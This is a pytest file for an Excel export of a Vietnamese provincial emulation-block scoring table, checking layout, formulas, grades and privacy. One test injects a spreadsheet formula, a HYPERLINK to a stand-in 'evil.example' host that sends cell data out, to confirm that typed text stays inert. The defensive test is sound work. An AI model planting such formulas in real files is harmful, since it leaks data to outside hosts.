"""The scoring table as an official document (issue 19): read back by openpyxl for a
15-unit block: the head, columns per printed page, formulas with cached values, number
formats, grades, no Telegram ids or internal codes, and free text that stays text."""

from __future__ import annotations

import io
from dataclasses import replace
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from bot.exports.ranking import build, workbook_bytes
from bot.services.ranking.export import ExportData
from tests.exports.builders import fifteen_units
from tests.exports.read import main_table, texts_of

D = Decimal
MAX_COLUMNS = 14


@pytest.fixture(scope="module")
def data() -> ExportData:
    return fifteen_units()


def _open(data: ExportData, *, cached: bool = True) -> Workbook:
    return load_workbook(io.BytesIO(workbook_bytes(data)), data_only=cached)


def test_sheets_and_the_administrative_head(data: ExportData) -> None:
    book = _open(data)
    assert book.sheetnames[:5] == ["Đợt 1", "Đợt 2", "Cả năm 2023", "Chi tiết tiêu chí",
                                   "Danh sách ký kết"]
    assert book.active is not None and book.active.title == "Cả năm 2023"
    for name in book.sheetnames[:5]:
        texts = texts_of(book[name])
        assert texts[0] == "KHỐI THI ĐUA CÁC SỞ, BAN, NGÀNH 3", name
        for line in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                     "Bình Thuận, ngày 15 tháng 12 năm 2023"):
            assert line in texts, (name, line)
    for name in book.sheetnames[:3]:
        texts = texts_of(book[name])
        assert {"NGƯỜI LẬP BIỂU", "TM. KHỐI TRƯỞNG", "VĂN PHÒNG ỦY BAN NHÂN DÂN TỈNH"} <= \
            set(texts), name
    assert "Đợt 1 năm 2023 (từ 01/01/2023 đến 30/06/2023)" in texts_of(book["Đợt 1"])


def test_print_setup_a4_landscape_one_page_wide_titles_repeated(data: ExportData) -> None:
    book = _open(data)
    for name in book.sheetnames[:4]:
        ws = book[name]
        assert ws.page_setup.orientation == "landscape", name
        assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.page_setup.fitToHeight == 0
        assert ws.print_title_rows, name
        fonts = {c.font.name for r in ws.iter_rows() for c in r if c.value is not None}
        assert fonts == {"Times New Roman"}, name
    assert book["Danh sách ký kết"].page_setup.orientation == "portrait"
    table = main_table(book["Đợt 1"])
    assert book["Đợt 1"].print_title_rows == f"${table.top}:${table.top + 1}"


def test_columns_a_printed_page_holds(data: ExportData) -> None:
    book = _open(data)
    for name in ("Đợt 1", "Đợt 2", "Cả năm 2023", "Chi tiết tiêu chí", "Danh sách ký kết"):
        assert book[name].max_column <= MAX_COLUMNS, name
    dot1 = main_table(book["Đợt 1"])
    groups = [h for h in dot1.header if h]
    assert groups == ["Xếp hạng", "Đơn vị", "I. Nhiệm vụ chính trị (tối đa 50 điểm)",
                      "II. Phong trào thi đua (tối đa 40 điểm)",
                      "III. Xây dựng Đảng, đoàn thể (tối đa 10 điểm)",
                      "Điểm thưởng (tối đa 5)", "Điểm trừ (tối đa 5)", "Tổng điểm", "Xếp loại",
                      "Nộp báo cáo trễ hạn", "Đề nghị khen thưởng"]
    # bonus and penalty once each; the per-criterion detail is on its own sheet
    assert sum("thưởng" in str(h) for h in dot1.header) == 2  # bonus and the proposal


def test_totals_ranks_and_grades_are_formulas_with_the_bots_values(data: ExportData) -> None:
    formulas, cached = _open(data, cached=False), _open(data)
    for ranking, name in [*zip(data.phases, ("Đợt 1", "Đợt 2"), strict=True),
                          (data.year, "Cả năm 2023")]:
        table = main_table(cached[name])
        total, grade = table.column("Tổng điểm"), table.column("Xếp loại")
        row = table.top + 2
        ws = formulas[name]
        for col in (1, total + 1, grade + 1):
            assert str(ws.cell(row=row, column=col).value).startswith("="), (name, col)
        expected = {s.unit.name: (s.rank, None if s.unreported else s.total)
                    for s in ranking.standings}
        got = {r[1]: (r[0], None if r[total] is None else D(str(r[total])))
               for r in table.rows}
        assert got == expected, name
        assert len(table.rows) == 15
    year = main_table(cached["Cả năm 2023"])
    grades = year.by_unit("Xếp loại")
    assert grades["Sở Giao thông vận tải"] == "Xuất sắc"  # 193,34 of 200: 96,7 %
    assert grades["Sở Xây dựng"] == "Yếu"  # one phase only: 89,56 of 200
    assert grades["Sở Khoa học và Công nghệ"] is None  # no report: no grade


def test_numbers_without_trailing_zeros_and_texts_not_codes(data: ExportData) -> None:
    book = _open(data)
    ws = book["Đợt 1"]
    table = main_table(ws)
    row = table.top + 2
    for col in range(3, table.column("Tổng điểm") + 2):
        assert ws.cell(row=row, column=col).number_format == "[$-42A]General"
    whole = [v for r in table.rows for v in r[2:table.column("Tổng điểm")]
             if isinstance(v, (int, float))]
    assert 48 in whole and 38.67 in whole  # 48 shows as 48, not 48,0
    late = {v for name in ("Đợt 1", "Đợt 2", "Cả năm 2023")
            for v in main_table(book[name]).by_unit("Nộp báo cáo trễ hạn").values()}
    assert late == {"Không", "Đợt 1", "Đợt 2", "Chưa nộp", "Đợt 2: chưa nộp"}
    assert set(table.by_unit("Đề nghị khen thưởng").values()) == {None}
    everything = " ".join(t for ws in book.worksheets for t in texts_of(ws))
    for unit in data.tree.units:
        assert unit.code not in everything.split(), unit.code  # names, never codes
    for tg in (9_000_001, 9_000_015):  # the signers' Telegram accounts
        assert str(tg) not in everything
    assert "Telegram" not in everything


def test_a_formula_a_unit_typed_stays_text_and_ours_stay_formulas(data: ExportData) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&B1,"Xem")'
    values = tuple(replace(v, value=replace(v.value, self_value=evil))
                   if v.value is not None and v.criterion.kind == "text" else v
                   for v in data.values)
    book = load_workbook(io.BytesIO(workbook_bytes(replace(data, values=values))))
    detail = book["Chi tiết tiêu chí"]
    typed = [c for r in detail.iter_rows() for c in r if c.value == evil]
    assert typed and all(c.data_type == "s" for c in typed)
    ws = book["Đợt 1"]
    formulas = [c for r in ws.iter_rows() for c in r if c.data_type == "f"]
    assert len(formulas) == 3 * 15  # rank, total and grade of each unit, nothing else


def test_the_grades_come_from_the_block_file_setting() -> None:
    data = fifteen_units(ranking={"grades": [["Hoàn thành xuất sắc", "90"],
                                             ["Hoàn thành", "60"]]})
    table = main_table(_open(data)["Đợt 1"])
    assert set(table.by_unit("Xếp loại").values()) == {"Hoàn thành xuất sắc", "Hoàn thành",
                                                       None}
    wb, _ = build(data)
    notes = texts_of(wb["Đợt 1"])
    assert "Xếp loại theo tổng điểm: Hoàn thành xuất sắc từ 90 điểm; Hoàn thành từ 60 " \
           "điểm." in notes


def test_too_many_groups_for_pairs_keep_one_column_each_and_english_reads() -> None:
    data = fifteen_units(own_groups=True, lang="en")
    book = _open(data)
    assert book.sheetnames[:3] == ["Đợt 1", "Đợt 2", "Year 2023"]
    ws = book["Đợt 1"]
    assert ws.max_column <= MAX_COLUMNS
    table = main_table(ws, first="Rank")
    assert table.sub[2:8] == ["Points"] * 6  # six groups: counted points only
    got = {r[1]: (r[0], None if r[table.column("Total")] is None else
                  D(str(r[table.column("Total")]))) for r in table.rows}
    assert got == {s.unit.name: (s.rank, None if s.unreported else s.total)
                   for s in data.phases[0].standings}
    texts = texts_of(ws)
    assert "SOCIALIST REPUBLIC OF VIETNAM" in texts and "ON BEHALF OF THE BLOCK'S CHAIR" in texts
